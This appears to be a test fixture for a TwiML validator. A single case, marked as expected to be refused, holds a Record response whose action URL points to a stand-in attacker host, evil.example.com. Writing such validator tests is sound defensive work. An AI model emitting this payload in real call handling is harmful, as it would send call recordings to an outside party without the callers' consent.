# class: action of Record to a foreign host; expected: refused twiml
response = '<Response><Record action="https://evil.example.com/PWNED"></Record></Response>'
